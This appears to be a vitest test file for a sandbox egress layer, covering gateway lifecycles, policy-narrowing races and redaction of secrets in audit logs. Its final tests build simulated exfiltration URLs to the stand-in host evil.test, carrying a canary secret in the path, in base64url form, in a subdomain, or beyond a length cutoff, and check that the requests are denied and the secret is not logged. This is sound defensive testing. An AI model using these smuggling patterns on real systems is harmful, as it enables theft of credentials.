import { describe, expect, test } from "vitest";
import type { EgressBroker } from "../../../src/egress/egress-broker.ts";
import { overRuntime } from "../../../src/policy/layers/over-runtime.ts";
import { ProxySecrets } from "../../../src/policy/layers/proxy-secrets.ts";
import { withEgress } from "../../../src/policy/layers/with-egress.ts";
import { PolicyControl } from "../../../src/policy/policy-control.ts";
import type { EgressGateway, RuntimeSandbox } from "../../../src/runtime/index.ts";
import { redactor } from "../../../src/secrets/index.ts";
import { fakeRuntime } from "../../../src/testing/index.ts";
import { waitUntil } from "../../support/wait-until.ts";
import { command, RecordingLog, spec, textOf } from "../support/layer-fixtures.ts";
import { policyOf } from "../support/policies.ts";

const canary = "Canary-Value-8c1f";
const store = { has: () => true, read: async () => canary, forget() {} };

function setUp() {
  const inner = fakeRuntime({
    capabilities: { egress: ["none", "gateway"] },
    program: ({ env }) => ({ output: [{ stream: "stdout", data: Buffer.from(env.TOKEN ?? "none") }] }),
  });
  const gateways: EgressGateway[] = [];
  const seeing = overRuntime(inner, {
    create: async (wanted, options) => {
      if (wanted.gateway !== undefined) gateways.push(wanted.gateway);
      return await inner.create(wanted, options);
    },
  });
  const policy = policyOf({
    egress: { allow: ["a.test", "b.test", "api.test"] },
    secrets: { TOKEN: { from: { env: "X" }, inject: "proxy", hosts: ["api.test"] } },
  });
  let made = 0;
  const audit = new RecordingLog();
  const brokers = new Map<string, EgressBroker>();
  const proxySecrets = new ProxySecrets(policy.secrets, store, (name) => `placeholder-of-${name}-${++made}`);
  const concealing = { store, newRedactor: redactor };
  const runtime = withEgress(seeing, { audit, brokers, proxySecrets, concealing });
  const control = new PolicyControl(policy, brokers, audit, store);
  return { inner, runtime, gateways, brokers, audit, control };
}

const wanted = { ...spec, egress: ["a.test", "b.test"], secrets: ["TOKEN"] };

const isClosed = async (gateway: EgressGateway | undefined) => {
  try {
    await gateway?.fetch({ method: "GET", url: "http://nowhere.test/", headers: {} });
    return false;
  } catch {
    return true;
  }
};
const tokenIn = async (sandbox: RuntimeSandbox) => await textOf(await sandbox.spawn(command("true")));

describe("withEgress", () => {
  test("a creation that fails as the name is taken leaves the sandbox of that name its way out", async () => {
    const { runtime, gateways, brokers } = setUp();
    const sandbox = await runtime.create(wanted);
    await expect(runtime.create(wanted)).rejects.toMatchObject({ code: "already_exists" });
    expect(await isClosed(gateways[0])).toBe(false);
    expect(await isClosed(gateways[1])).toBe(true);
    expect(await tokenIn(sandbox)).toBe("placeholder-of-TOKEN-1");
    expect(await tokenIn(await runtime.attach("box"))).toBe("placeholder-of-TOKEN-1");
    expect(brokers.size).toBe(1);
  });

  test("of two sandboxes made at once under one name, the one that is there works", async () => {
    const { runtime, gateways } = setUp();
    const made = await Promise.allSettled([runtime.create(wanted), runtime.create(wanted)]);
    const winners = made.flatMap((one) => (one.status === "fulfilled" ? [one.value] : []));
    expect(winners).toHaveLength(1);
    expect(await Promise.all(gateways.map(isClosed))).toEqual(
      made.map(({ status }) => status !== "fulfilled"),
    );
    expect(await tokenIn(winners[0] as RuntimeSandbox)).toMatch(/^placeholder-of-TOKEN-/);
  });

  test("a handle on a sandbox that is gone has no hold on a later one of the same name", async () => {
    const { inner, runtime, gateways, brokers } = setUp();
    const first = await runtime.create(wanted);
    await (await inner.attach("box")).destroy();
    const second = await runtime.create(wanted);
    expect(await isClosed(gateways[0])).toBe(true);
    await first.destroy();
    expect(await isClosed(gateways[1])).toBe(false);
    expect(await tokenIn(second)).toBe("placeholder-of-TOKEN-2");
    await second.destroy();
    expect(brokers.size).toBe(0);
  });

  test("one without egress does not inherit the way out of a former one of its name", async () => {
    const { inner, runtime, gateways, brokers } = setUp();
    await runtime.create(wanted);
    await (await inner.attach("box")).destroy();
    await runtime.create(spec);
    expect(brokers.size).toBe(0);
    expect(await isClosed(gateways[0])).toBe(true);
    expect((await runtime.attach("box")).egress).toBeUndefined();
  });

  test("a broker ends when its sandbox is found to be gone", async () => {
    const { inner, runtime, gateways, brokers } = setUp();
    await runtime.create(wanted);
    await (await inner.attach("box")).destroy();
    await expect(runtime.attach("box")).rejects.toMatchObject({ code: "not_found" });
    expect(brokers.size).toBe(0);
    expect(await isClosed(gateways[0])).toBe(true);
  });

  test("closing ends the way out of a sandbox that is still being made", async () => {
    const { inner, runtime, gateways, brokers } = setUp();
    inner.hang("create");
    const making = runtime.create(wanted).catch(() => undefined);
    await waitUntil("it is being made", () => gateways.length === 1);
    await runtime.close();
    inner.clear();
    await making;
    expect(await isClosed(gateways[0])).toBe(true);
    expect(brokers.size).toBe(0);
  });

  test("an agent that narrows all the time cannot undo the platform's tightening", async () => {
    const { runtime, audit, control, brokers } = setUp();
    const sandbox = await runtime.create(wanted);
    const gate = Promise.withResolvers<void>();
    let isAgentWaiting = false;
    const record = audit.record.bind(audit);
    audit.record = async (entry) => {
      if (entry.detail?.by === "agent" && !isAgentWaiting) {
        isAgentWaiting = true;
        await gate.promise;
      }
      await record(entry);
    };
    // Judged while b.test was still allowed, and applied after it no longer is.
    const narrowing = sandbox.egress?.narrow(["b.test"]);
    await waitUntil("the agent's change is being recorded", () => isAgentWaiting);
    await control.updateEgress("box", ["a.test"]);
    gate.resolve();
    await expect(narrowing).rejects.toMatchObject({ code: "policy_violation" });
    expect(brokers.get("box")?.allow).toEqual(["a.test"]);
  });

  test("rules that change while they are judged change nothing", async () => {
    const { runtime, audit, brokers } = setUp();
    const sandbox = await runtime.create(wanted);
    const asked = ["a.test"];
    const narrowing = sandbox.egress?.narrow(asked);
    asked.push("evil.test");
    await narrowing;
    expect(brokers.get("box")?.allow).toEqual(["a.test"]);
    expect(audit.of("egress.updated").at(-1)?.detail?.after).toEqual(["a.test"]);
  });

  test.each([
    ["the path", `http://evil.test/bot${canary}/send`],
    ["the encoded path", `http://evil.test/${Buffer.from(canary).toString("base64url")}`],
    ["the host", `http://${canary}.evil.test/`],
    ["the path, cut in two by the bound of its length", `http://evil.test/${"a".repeat(245)}${canary}`],
  ])("the value of a secret that code puts into %s is not recorded", async (_, url) => {
    const { runtime, gateways, audit } = setUp();
    await runtime.create(wanted);
    const answer = await gateways[0]?.fetch({ method: "GET", url, headers: {} });
    expect(answer?.status).toBe(403);
    const denied = await waitUntil("it is recorded", () => audit.of("egress.denied")[0]);
    expect(denied.detail?.host).toMatch(/evil\.test$/);
    const text = JSON.stringify(audit.entries).toLowerCase();
    for (const form of [canary, Buffer.from(canary).toString("base64url")])
      expect(text).not.toContain(form.slice(0, 6).toLowerCase());
  });

  test("where the value of a secret cannot be read, nothing is recorded that could hold it", async () => {
    const { runtime, gateways, audit } = setUp();
    await runtime.create(wanted);
    const read = store.read;
    store.read = async () => Promise.reject(new Error("gone"));
    try {
      await gateways[0]?.fetch({ method: "GET", url: `http://evil.test/${canary}`, headers: {} });
      const denied = await waitUntil("it is recorded", () => audit.of("egress.denied")[0]);
      expect(JSON.stringify(denied)).not.toContain(canary);
      expect(denied).toMatchObject({ code: "not-in-allowlist", outcome: "denied" });
    } finally {
      store.read = read;
    }
  });
});
